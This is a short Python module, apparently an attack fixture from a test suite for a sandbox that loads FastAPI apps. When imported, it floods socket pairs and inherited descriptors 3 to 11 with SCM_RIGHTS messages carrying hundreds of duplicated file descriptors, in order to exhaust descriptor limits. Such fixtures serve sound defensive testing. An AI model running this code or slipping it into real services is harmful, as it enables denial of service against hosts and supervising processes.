"""Attack: descriptors on their way count against the user, wherever they are on their way to."""

import contextlib
import os
import socket

from fastapi import FastAPI

from .targets import acted

acted("import")
pairs = []
with contextlib.suppress(OSError):
    for _ in range(20):
        pairs.append(socket.socketpair())
        ours, theirs = pairs[-1]
        ours.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            for _ in range(10):
                socket.send_fds(ours, [b"x"], [theirs.fileno()] * 200)
for number in range(3, 12):
    with contextlib.suppress(OSError):
        stream = socket.socket(fileno=os.dup(number))
        with contextlib.suppress(OSError):
            for _ in range(20):
                socket.send_fds(stream, [b"\xc0"], [0] * 200, socket.MSG_DONTWAIT)
        stream.detach()
app = FastAPI()
